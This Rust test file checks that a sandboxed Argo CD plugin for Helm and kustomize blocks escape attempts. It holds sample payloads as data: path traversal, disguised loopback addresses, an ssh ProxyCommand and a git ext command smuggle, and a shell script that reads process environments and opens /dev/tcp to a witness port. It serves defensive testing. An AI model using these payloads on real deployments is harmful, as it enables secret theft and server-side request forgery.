//! Charts and kustomizations that led the real tools out of the checkout, or to an address, in every spelling that was found.
//!
//! Each is rendered through both modes and checked. The witnesses are a secret beside the checkout, whose text must be in no output, and a
//! port of this machine, to which nobody may connect.

use std::fs;
use std::io::Write;
use std::net::TcpListener;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use flate2::Compression;
use flate2::write::GzEncoder;

use super::{is_whole, level};
use crate::fixtures::{needs, write};
use crate::support::argocd::{self, Serving};
use crate::support::driver::{Driver, tool};
use crate::support::registry::FakeRegistry;

const PROGRAM: &str = env!("CARGO_BIN_EXE_pinion");

pub const SECRET: &str = "s3cret-of-another";

/// A secret beside the checkout, and a port that counts connections.
pub struct Witnesses {
    place: tempfile::TempDir,
    port: u16,
    connections: Arc<AtomicUsize>,
}

impl Witnesses {
    pub fn start() -> Self {
        let place = tempfile::tempdir().expect("a directory");
        let outside = place.path().join("outside");
        let template = format!("apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: foreign}}\ndata: {{text: {SECRET}}}\n");
        write(
            &outside,
            &[
                ("chart/Chart.yaml", "apiVersion: v2\nname: foreign\nversion: 0.1.0\n"),
                ("chart/templates/secret.yaml", &template),
                ("secret", SECRET),
                ("values.yaml", &format!("text: {SECRET}\n")),
                // A document that makes Helm say what it read.
                ("schema.json", &format!("{{\"required\": [\"{SECRET}\"]}}")),
                ("base/kustomization.yaml", "resources: [secret.yaml]\n"),
                ("base/secret.yaml", &template),
            ],
        );
        fs::write(outside.join("foreign-0.1.0.tgz"), packed("foreign", &[("templates/secret.yaml", template.as_bytes())]))
            .expect("written");
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        let port = listener.local_addr().expect("an address").port();
        let connections = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&connections);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                count.fetch_add(1, Ordering::SeqCst);
                let body = format!("{{\"required\": [\"{SECRET}\"]}}");
                let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
                let _ = std::io::Read::read(&mut &stream, &mut [0; 4096]);
                let _ = (&stream).write_all(format!("{head}{body}").as_bytes());
            }
        });
        Self { place, port, connections }
    }

    fn outside(&self) -> String {
        self.place.path().join("outside").display().to_string()
    }

    pub fn path(&self) -> &Path {
        self.place.path()
    }

    /// How many were made to the port.
    pub fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }

    /// Writes the address and the directory into a text.
    pub fn filled(&self, text: &str) -> String {
        text.replace("OUTSIDE", &self.outside()).replace("PORT", &self.port.to_string())
    }
}

/// A chart's archive, its top directory by name.
fn packed(top: &str, files: &[(&str, &[u8])]) -> Vec<u8> {
    let chart = format!("apiVersion: v2\nname: {top}\nversion: 0.1.0\n");
    let files = [("Chart.yaml", chart.as_bytes())].into_iter().chain(files.iter().copied());
    tgz(files.map(|(path, bytes)| (format!("{top}/{path}"), bytes.to_vec())))
}

fn tgz(files: impl IntoIterator<Item = (String, Vec<u8>)>) -> Vec<u8> {
    let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::default()));
    for (path, bytes) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        builder.append_data(&mut header, path, bytes.as_slice()).expect("added");
    }
    builder.into_inner().and_then(GzEncoder::finish).expect("packed")
}

/// An application that tries to get out.
#[derive(Default)]
struct Attempt {
    name: String,
    files: Vec<(String, Vec<u8>)>,
    /// Paths of links, and what they lead to.
    links: Vec<(String, String)>,
    parameters: Vec<serde_json::Value>,
    variables: Vec<(&'static str, String)>,
    /// Must the render fail? Else it may also succeed, without what it asked for.
    fails: bool,
}

impl Attempt {
    fn new(name: &str, witnesses: &Witnesses, files: &[(&str, &str)]) -> Self {
        let files = files.iter().map(|(path, text)| ((*path).to_owned(), witnesses.filled(text).into_bytes())).collect();
        Self { name: name.to_owned(), files, ..Self::default() }
    }

    fn failing(self) -> Self {
        Self { fails: true, ..self }
    }

    fn file(mut self, path: &str, bytes: Vec<u8>) -> Self {
        self.files.push((path.to_owned(), bytes));
        self
    }

    fn link(mut self, path: &str, target: String) -> Self {
        self.links.push((path.to_owned(), target));
        self
    }

    fn parameter(mut self, parameter: serde_json::Value) -> Self {
        self.parameters.push(parameter);
        self
    }

    fn with(mut self, name: &'static str, value: &str) -> Self {
        self.variables.push((name, value.to_owned()));
        self
    }

    /// Writes it into an empty directory.
    fn write(&self, checkout: &Path) {
        for (path, bytes) in &self.files {
            let path = checkout.join("app").join(path);
            fs::create_dir_all(path.parent().expect("a parent")).and_then(|()| fs::write(&path, bytes)).expect("written");
            if path.extension().is_some_and(|end| end == "sh") {
                fs::set_permissions(path, fs::Permissions::from_mode(0o755)).expect("set");
            }
        }
        for (path, target) in &self.links {
            let path = checkout.join("app").join(path);
            fs::create_dir_all(path.parent().expect("a parent")).expect("made");
            symlink(target, path).expect("linked");
        }
    }
}

const CHART: &str = "apiVersion: v2\nname: web\nversion: 0.1.0\n";

const TEMPLATE: (&str, &str) = ("templates/a.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n");

/// Charts whose dependencies are elsewhere (S1, and repositories of S5).
fn dependencies(witnesses: &Witnesses) -> Vec<Attempt> {
    let mut attempts = Vec::new();
    let deep = format!("file://{}", "../".repeat(12));
    for (name, declared) in [
        ("plain", "dependencies: [{name: foreign, version: 0.1.0, repository: 'file://OUTSIDE/chart'}]\n"),
        ("another case", "dependencies: [{name: foreign, version: 0.1.0, Repository: 'file://OUTSIDE/chart'}]\n"),
        ("upper case", "DEPENDENCIES: [{NAME: foreign, VERSION: 0.1.0, REPOSITORY: 'file://OUTSIDE/chart'}]\n"),
        ("a merge key", "dependencies: [{name: foreign, version: 0.1.0, <<: {repository: 'file://OUTSIDE/chart'}}]\n"),
        (
            "a merged list",
            "dependencies: [{name: foreign, version: 0.1.0, <<: [{a: b}, {Repository: 'file://OUTSIDE/chart'}]}]\n",
        ),
        ("an alias", "x: &r {repository: 'file://OUTSIDE/chart'}\ndependencies: [{<<: *r, name: foreign, version: 0.1.0}]\n"),
        (
            "a key twice",
            "dependencies: [{name: foreign, version: 0.1.0, repository: 'file://../lib', Repository: 'file://OUTSIDE/chart'}]\n",
        ),
        ("an escaped key", "dependencies: [{name: foreign, version: 0.1.0, \"reposi\\x74ory\": 'file://OUTSIDE/chart'}]\n"),
        ("a long s", "dependencies: [{name: foreign, version: 0.1.0, repoſitory: 'file://OUTSIDE/chart'}]\n"),
        ("a tag", "dependencies: [{name: foreign, version: 0.1.0, repository: !!str 'file://OUTSIDE/chart'}]\n"),
        ("three slashes", "dependencies: [{name: foreign, version: 0.1.0, repository: 'file:///OUTSIDE/chart'}]\n"),
        ("a scheme's case", "dependencies: [{name: foreign, version: 0.1.0, repository: 'FILE://OUTSIDE/chart'}]\n"),
        ("an escape", "dependencies: [{name: foreign, version: 0.1.0, repository: 'file://%2e%2e/%2e%2e/outside/chart'}]\n"),
        ("upwards", "dependencies: [{name: foreign, version: 0.1.0, repository: 'file://../../outside/chart'}]\n"),
        ("far upwards", "dependencies: [{name: foreign, version: 0.1.0, repository: 'DEEPOUTSIDE/chart'}]\n"),
        ("a name", "dependencies: [{name: ../../outside/chart, version: 0.1.0, repository: ''}]\n"),
        ("a name and a place", "dependencies: [{name: ../../../outside/chart, version: 0.1.0, repository: 'file://../lib'}]\n"),
        (
            "an alias of the chart",
            "dependencies: [{name: foreign, version: 0.1.0, alias: ../x, repository: 'file://OUTSIDE/chart'}]\n",
        ),
        ("http", "dependencies: [{name: foreign, version: 0.1.0, repository: 'http://127.0.0.1:PORT'}]\n"),
        ("localhost", "dependencies: [{name: foreign, version: 0.1.0, repository: 'http://localhost:PORT/'}]\n"),
        ("a short address", "dependencies: [{name: foreign, version: 0.1.0, repository: 'http://127.1:PORT/'}]\n"),
        ("a number", "dependencies: [{name: foreign, version: 0.1.0, repository: 'http://2130706433:PORT/'}]\n"),
        ("hexadecimal", "dependencies: [{name: foreign, version: 0.1.0, repository: 'http://0x7f.1:PORT/'}]\n"),
        ("mapped", "dependencies: [{name: foreign, version: 0.1.0, repository: 'http://[::ffff:127.0.0.1]:PORT/'}]\n"),
        ("zero", "dependencies: [{name: foreign, version: 0.1.0, repository: 'http://0.0.0.0:PORT/'}]\n"),
        ("a user", "dependencies: [{name: foreign, version: 0.1.0, repository: 'http://example.com@127.0.0.1:PORT/'}]\n"),
        ("oci", "dependencies: [{name: foreign, version: 0.1.0, repository: 'oci://127.0.0.1:PORT/charts'}]\n"),
        ("oci by range", "dependencies: [{name: foreign, version: ^0.1, repository: 'oci://localhost:PORT/charts'}]\n"),
        ("oci in another case", "dependencies: [{name: foreign, version: 0.1.0, Repository: 'OCI://127.0.0.1:PORT/charts'}]\n"),
    ] {
        let chart = format!("{CHART}{}", declared.replace("DEEP", &deep));
        attempts.push(Attempt::new(&format!("dependency: {name}"), witnesses, &[("Chart.yaml", &chart), TEMPLATE]));
    }
    let old = "dependencies: [{name: foreign, version: 0.1.0, Repository: 'file://OUTSIDE/chart'}]\n";
    let old_chart = "apiVersion: v1\nname: web\nversion: 0.1.0\n";
    attempts.push(Attempt::new(
        "requirements.yaml",
        witnesses,
        &[("Chart.yaml", old_chart), ("requirements.yaml", old), TEMPLATE],
    ));
    let lock = "dependencies: [{name: foreign, version: 0.1.0, repository: 'file://OUTSIDE/chart'}]\ndigest: sha256:0\n";
    let locked = format!("{CHART}dependencies: [{{name: foreign, version: 0.1.0, repository: 'https://charts.example'}}]\n");
    attempts.push(Attempt::new("a lock file", witnesses, &[("Chart.yaml", &locked), ("Chart.lock", lock), TEMPLATE]).failing());
    let linked = |name: &str, path: &str, target: &str| {
        Attempt::new(name, witnesses, &[("Chart.yaml", CHART), TEMPLATE]).link(path, witnesses.filled(target))
    };
    attempts.extend([
        linked("a linked archive", "charts/foreign-0.1.0.tgz", "OUTSIDE/foreign-0.1.0.tgz"),
        linked("a linked chart", "charts/foreign", "OUTSIDE/chart"),
        linked("a linked directory of charts", "charts", "OUTSIDE"),
        linked("a link far upwards", "templates/x.txt", "../../../../../../../../../../OUTSIDE/secret"),
        linked("a link by /proc", "values.schema.json", "/proc/self/root/OUTSIDE/schema.json"),
    ]);
    let local = format!("{CHART}dependencies: [{{name: lib, version: 0.1.0, repository: 'file://lib'}}]\n");
    let lib = "apiVersion: v2\nname: lib\nversion: 0.1.0\n";
    attempts.push(
        Attempt::new("a link in a local chart", witnesses, &[("Chart.yaml", &local), ("lib/Chart.yaml", lib), TEMPLATE])
            .link("lib/templates", witnesses.filled("OUTSIDE/chart/templates")),
    );
    let inner = lib.to_owned() + "Dependencies: [{name: foreign, version: 0.1.0, Repository: 'file://OUTSIDE/chart'}]\n";
    attempts.push(Attempt::new(
        "a local chart's own dependency",
        witnesses,
        &[("Chart.yaml", &local), ("lib/Chart.yaml", &inner), TEMPLATE],
    ));
    attempts
}

/// Charts whose schema of the values is elsewhere (S2).
fn schemas(witnesses: &Witnesses) -> Vec<Attempt> {
    let mut attempts = Vec::new();
    let address = "http://127.0.0.1:PORT/schema.json";
    let file = "file://OUTSIDE/schema.json";
    for place in [address, file] {
        let scheme = &place[..4];
        let reference = witnesses.filled(&format!("{{\"$ref\": \"{place}\"}}"));
        let noise =
            |end: &str| [reference.trim_end_matches('}').as_bytes(), b", \"x\": \"", b"\xff\xfe", end.as_bytes()].concat();
        for (name, schema) in [
            ("plain", reference.clone()),
            ("escaped", reference.replace("$ref", "\\u0024ref")),
            ("a key twice", format!("{{\"$ref\": \"#\", {}", &reference[1..])),
            ("dynamic", reference.replace("$ref", "$dynamicRef")),
            ("recursive", reference.replace("$ref", "$recursiveRef")),
            ("draft 4", format!("{{\"$schema\": \"http://json-schema.org/draft-04/schema#\", {}", &reference[1..])),
            ("its own schema", reference.replace("$ref", "$schema")),
            ("a base", witnesses.filled(&format!("{{\"$id\": \"{place}\", \"$ref\": \"other.json\"}}"))),
            ("a base below", witnesses.filled(&format!("{{\"allOf\": [{{\"$id\": \"{place}\", \"$ref\": \"other.json\"}}]}}"))),
            ("in a definition", format!("{{\"$defs\": {{\"a\": {reference}}}, \"$ref\": \"#/$defs/a\"}}")),
            ("in an unknown keyword", format!("{{\"x\": {{\"a\": {reference}}}, \"$ref\": \"#/x/a\"}}")),
            ("a byte order mark", format!("\u{feff}{reference}")),
            ("yaml", reference.replace('"', "")),
        ] {
            let files = [("Chart.yaml", CHART), ("values.schema.json", schema.as_str()), TEMPLATE];
            attempts.push(Attempt::new(&format!("schema by {scheme}: {name}"), witnesses, &files));
        }
        let mut archive = |name: &str, bytes: Vec<u8>| {
            let name = format!("schema by {scheme} in an archive: {name}");
            attempts
                .push(Attempt::new(&name, witnesses, &[("Chart.yaml", CHART), TEMPLATE]).file("charts/foreign-0.1.0.tgz", bytes));
        };
        let schema = ("values.schema.json", reference.as_bytes());
        archive("plain", packed("foreign", &[schema]));
        archive("not UTF-8", packed("foreign", &[("values.schema.json", &noise("\"}"))]));
        archive("the top is `templates`", packed("templates", &[schema]));
        archive("the top is `charts`", packed("charts", &[schema]));
        let chart = b"apiVersion: v2\nname: foreign\nversion: 0.1.0\n".to_vec();
        let entry = |path: &str, bytes: &[u8]| (path.to_owned(), bytes.to_vec());
        archive("two tops", tgz([entry("a/Chart.yaml", &chart), entry("b/values.schema.json", reference.as_bytes())]));
        archive("two tops, turned", tgz([entry("b/values.schema.json", reference.as_bytes()), entry("a/Chart.yaml", &chart)]));
        archive(
            "no top",
            tgz([entry("./foreign/Chart.yaml", &chart), entry("./foreign/values.schema.json", reference.as_bytes())]),
        );
        archive(
            "twice",
            tgz([
                entry("foreign/Chart.yaml", &chart),
                entry("foreign/values.schema.json", b"{}"),
                entry("foreign/values.schema.json", reference.as_bytes()),
            ]),
        );
        let mut nested = packed("foreign", &[schema]);
        for _ in 0..12 {
            nested = packed("foreign", &[("charts/foreign-0.1.0.tgz", &nested)]);
        }
        archive("thirteen deep", nested);
        let two = [packed("foreign", &[]), packed("foreign", &[schema])].concat();
        archive("two archives in one", two);
        let deep = format!("{}values.schema.json", "charts/foreign/".repeat(12));
        let files: Vec<(String, String)> = (1..=12)
            .map(|depth| {
                (format!("{}Chart.yaml", "charts/foreign/".repeat(depth)), String::from_utf8(chart.clone()).expect("text"))
            })
            .collect();
        let mut directories =
            Attempt::new(&format!("schema by {scheme}: twelve deep"), witnesses, &[("Chart.yaml", CHART), TEMPLATE]);
        for (path, text) in files {
            directories = directories.file(&path, text.into_bytes());
        }
        attempts.push(directories.file(&deep, reference.into_bytes()));
    }
    attempts
}

/// Release names, value files and other parameters (S4, S5).
fn parameters(witnesses: &Witnesses) -> Vec<Attempt> {
    let chart = |name: &str| Attempt::new(name, witnesses, &[("Chart.yaml", CHART), TEMPLATE]);
    let string = |name: &str, text: &str| serde_json::json!({"name": name, "string": witnesses.filled(text)});
    let array = |name: &str, text: &str| serde_json::json!({"name": name, "array": [witnesses.filled(text)]});
    let map = |name: &str, key: &str, text: &str| serde_json::json!({"name": name, "map": {key: witnesses.filled(text)}});
    let mut attempts = Vec::new();
    for template in
        ["{{env \"WITNESS\"}}", "{{ env `WITNESS` }}", "a{{env \"WITNESS\"}}", "{{expandenv \"$WITNESS\"}}", "{{ .Files }}"]
    {
        attempts.push(chart(&format!("release {template}")).parameter(string("helm-release-name", template)).failing());
        attempts.push(chart(&format!("application {template}")).with("ARGOCD_APP_NAME", template).failing());
    }
    for file in [
        "http://127.0.0.1:PORT/v.yaml",
        "http://localhost:PORT/v.yaml",
        "http://[::1]:PORT/v.yaml",
        "file://OUTSIDE/values.yaml",
        "FILE://OUTSIDE/values.yaml",
        "OUTSIDE/values.yaml",
        "../../outside/values.yaml",
        "x,OUTSIDE/values.yaml",
        "oci://127.0.0.1:PORT/v",
    ] {
        let attempt = chart(&format!("value file {file}")).parameter(array("helm-value-files", file)).failing();
        attempts.push(attempt.with("PINION_VALUE_FILE_SCHEMES", "http,https"));
    }
    for (key, file) in [
        ("x", "OUTSIDE/secret"),
        ("x", "../../outside/secret"),
        ("x=OUTSIDE/secret,y", "Chart.yaml"),
        ("x", "http://127.0.0.1:PORT/"),
    ] {
        attempts.push(
            chart(&format!("file parameter {key}={file}"))
                .parameter(map("helm-file-parameters", &witnesses.filled(key), file))
                .failing(),
        );
    }
    let reader = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {a: '{{ .Files.Get \"../../outside/secret\" }}{{ .Files.Get \"OUTSIDE/secret\" }}', b: '{{ getHostByName \"localhost\" }}', c: '{{ env \"WITNESS\" }}'}\n";
    attempts.push(Attempt::new("a template that reads files", witnesses, &[("Chart.yaml", CHART), ("templates/a.yaml", reader)]));
    attempts
}

/// Kustomizations that name files and addresses (S5).
fn kustomizations(witnesses: &Witnesses) -> Vec<Attempt> {
    let mut attempts = Vec::new();
    let pod = ("pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\n");
    for (name, text) in [
        ("http", "resources: ['http://127.0.0.1:PORT/a.yaml']\n"),
        ("localhost", "resources: ['http://localhost:PORT/a.yaml']\n"),
        ("IPv6", "resources: ['http://[::1]:PORT/a.yaml']\n"),
        ("a short address", "resources: ['http://127.1:PORT/a.yaml']\n"),
        ("a number", "resources: ['http://2130706433:PORT/a.yaml']\n"),
        ("hexadecimal", "resources: ['http://0x7f000001:PORT/a.yaml']\n"),
        ("mapped", "resources: ['http://[::ffff:7f00:1]:PORT/a.yaml']\n"),
        ("a user", "resources: ['http://example.com@127.0.0.1:PORT/a.yaml']\n"),
        ("git by http", "resources: ['http://127.0.0.1:PORT/r.git//d?ref=main']\n"),
        ("git by git", "resources: ['git::git://127.0.0.1:PORT/r.git']\n"),
        ("git by ssh", "resources: ['ssh://git@127.0.0.1:PORT/r.git']\n"),
        ("git by ssh, short", "resources: ['git@localhost:r.git']\n"),
        ("git with an option", "resources: ['ssh://-oProxyCommand=cat%20OUTSIDE%2fsecret/r.git']\n"),
        ("git by file", "resources: ['file://OUTSIDE/base']\n"),
        ("git by ext", "resources: ['git::ext::sh -c cat% OUTSIDE/secret% >&2']\n"),
        ("another case", "Resources: ['http://127.0.0.1:PORT/a.yaml']\n"),
        ("bases", "bases: ['http://127.0.0.1:PORT/r.git']\n"),
        ("components", "components: ['http://127.0.0.1:PORT/r.git']\n"),
        ("openapi", "resources: [pod.yaml]\nopenapi: {path: 'http://127.0.0.1:PORT/a.json'}\n"),
        ("a patch", "resources: [pod.yaml]\npatches: [{path: 'http://127.0.0.1:PORT/a.yaml'}]\n"),
        ("crds", "resources: [pod.yaml]\ncrds: ['http://127.0.0.1:PORT/a.json']\n"),
        ("a chart", "helmCharts: [{name: foreign, version: 0.1.0, repo: 'http://127.0.0.1:PORT'}]\n"),
        ("a chart by oci", "helmCharts: [{name: foreign, version: 0.1.0, repo: 'oci://127.0.0.1:PORT/charts'}]\n"),
        ("a file outside", "resources: ['OUTSIDE/base']\n"),
        ("a file upwards", "resources: [../../outside/base]\n"),
        ("a generator's file", "configMapGenerator: [{name: a, files: ['OUTSIDE/secret']}]\n"),
        ("a generator's file upwards", "configMapGenerator: [{name: a, files: [../../outside/secret]}]\n"),
        ("a generator in another case", "ConfigMapGenerator: [{name: a, Files: ['OUTSIDE/secret']}]\n"),
        ("a chart's home", "helmGlobals: {chartHome: 'OUTSIDE'}\nhelmCharts: [{name: chart, releaseName: a}]\n"),
        ("values of a chart", "helmCharts: [{name: own, releaseName: a, valuesFile: 'OUTSIDE/values.yaml'}]\n"),
        ("replacements", "resources: [pod.yaml]\nreplacements: [{path: 'OUTSIDE/secret'}]\n"),
    ] {
        let chart = ("charts/own/Chart.yaml", "apiVersion: v2\nname: own\nversion: 0.1.0\n");
        let files = [("kustomization.yaml", text), pod, chart, ("charts/own/templates/a.yaml", "a: {{ .Values.text }}\n")];
        let attempt = |more: &str| Attempt::new(&format!("kustomization{more}: {name}"), witnesses, &files);
        attempts.push(attempt("").failing());
        let options = "--load-restrictor LoadRestrictionsNone --enable-helm --enable-exec --enable-alpha-plugins";
        attempts.push(attempt(", unrestricted").failing().with("PINION_KUSTOMIZE_BUILD_OPTIONS", options));
    }
    let plugin = "apiVersion: v1\nkind: X\nmetadata:\n  name: x\n  annotations:\n    config.kubernetes.io/function: |\n      exec: {path: ./run.sh}\n";
    let script = "#!/bin/bash\ncat OUTSIDE/secret /proc/*/environ >&2\nexec 3<>/dev/tcp/127.0.0.1/PORT\ncat OUTSIDE/secret\n";
    let mut exec = Attempt::new(
        "an exec plugin",
        witnesses,
        &[
            ("kustomization.yaml", "resources: [pod.yaml]\ntransformers: [plugin.yaml]\n"),
            pod,
            ("plugin.yaml", plugin),
            ("run.sh", script),
        ],
    );
    exec = exec.with("PINION_KUSTOMIZE_BUILD_OPTIONS", "--enable-exec --enable-alpha-plugins");
    attempts.push(exec);
    attempts
}

/// What came of an attempt, by mode: whether it succeeded, and everything that was told.
async fn outcomes(
    attempt: &Attempt,
    witnesses: &Witnesses,
    registry: &FakeRegistry,
    more: &[(&'static str, &str)],
) -> Vec<(&'static str, bool, String)> {
    let place = tempfile::tempdir_in(witnesses.place.path()).expect("a directory");
    let checkout = place.path().join("checkout");
    fs::create_dir(&checkout).expect("made");
    attempt.write(&checkout);
    let parameters = serde_json::to_string(&attempt.parameters).expect("JSON");
    let settings =
        [("ARGOCD_APP_NAME", "web"), ("ARGOCD_APP_SOURCE_PATH", "app"), ("ARGOCD_APP_PARAMETERS", parameters.as_str())];
    let mut driver = Driver::new(PROGRAM, registry).within(checkout.join("app"));
    // Full where the kernel is; a tool that fetches would not start below it.
    driver = driver.env("PINION_SANDBOX", "best-effort").env("WITNESS", SECRET);
    let own = attempt.variables.iter().map(|(name, value)| (*name, value.as_str()));
    for (name, value) in settings.into_iter().chain(own).chain(more.iter().copied()) {
        driver = driver.env(name, value);
    }
    let mut outcomes = Vec::new();
    let ran = tokio::task::block_in_place(|| driver.run(["generate"]));
    outcomes.push(("generate", ran.status == 0, format!("{}{}", ran.stdout, ran.stderr)));
    let ran = tokio::task::block_in_place(|| driver.run(["check"]));
    outcomes.push(("check", ran.status == 0, format!("{}{}", ran.stdout, ran.stderr)));
    // With the fullest settings: warm Helm where it is.
    let helm: PathBuf = tool("helm-worker").or_else(|| tool("helm")).expect("the caller asked");
    let serving = Serving::start(PROGRAM, &driver, &["--helm", &helm.display().to_string()]);
    let archive = argocd::archive(&checkout);
    let messages = argocd::messages(&archive, "app", &argocd::environment(&driver), 1024);
    let answer = serving.client().await.generate_manifest(tokio_stream::iter(messages.clone())).await;
    let announced = serving.client().await.get_parameters_announcement(tokio_stream::iter(messages)).await;
    let told = format!("{answer:?}{announced:?}{}", serving.log());
    outcomes.push(("serve", answer.is_ok(), told));
    outcomes
}

/// Runs all, and tells every attempt that got something, or succeeded where it must not.
async fn check(attempts: impl FnOnce(&Witnesses) -> Vec<Attempt>) {
    if !needs("helm") || !needs("kustomize") {
        return;
    }
    let is_whole = is_whole();
    let level = level();
    let witnesses = Witnesses::start();
    let registry = FakeRegistry::start().await;
    let mut faults = Vec::new();
    for attempt in attempts(&witnesses) {
        let before = witnesses.connections.load(Ordering::SeqCst);
        for (mode, is_done, told) in outcomes(&attempt, &witnesses, &registry, &[]).await {
            let got = told.contains(SECRET);
            if (got && level.landlock >= 1) || (is_done && attempt.fails && is_whole && mode != "check") {
                faults.push(format!("=== {} ({mode})\n{told}", attempt.name));
            }
        }
        let connections = witnesses.connections.load(Ordering::SeqCst) - before;
        if connections > 0 && level.seccomp && level.landlock >= 4 {
            faults.push(format!("=== {}: {connections} connections", attempt.name));
        }
    }
    assert!(faults.is_empty(), "{} escapes\n{}", faults.len(), faults.join("\n"));
}

#[tokio::test(flavor = "multi_thread")]
async fn dependencies_do_not_lead_out() {
    check(dependencies).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn schemas_do_not_lead_out() {
    check(schemas).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn parameters_do_not_lead_out() {
    check(parameters).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn kustomizations_do_not_lead_out() {
    check(kustomizations).await;
}

/// The witnesses can tell: without the sandbox, some of the same charts do get out.
#[tokio::test(flavor = "multi_thread")]
async fn without_a_sandbox_they_do_lead_out() {
    if !needs("helm") || !needs("kustomize") {
        return;
    }
    let witnesses = Witnesses::start();
    let registry = FakeRegistry::start().await;
    let (mut told, mut connected) = (0, 0);
    for attempt in schemas(&witnesses).into_iter().filter(|attempt| attempt.name.contains("archive")) {
        let before = witnesses.connections.load(Ordering::SeqCst);
        let outcomes =
            outcomes(&attempt, &witnesses, &registry, &[("PINION_SANDBOX", "off"), ("PINION_HELM_WORKERS", "false")]).await;
        told += usize::from(outcomes.iter().any(|(_, _, told)| told.contains(SECRET)));
        connected += usize::from(witnesses.connections.load(Ordering::SeqCst) > before);
    }
    assert!(told >= 2 && connected >= 2, "{told} told the secret, {connected} connected");
}
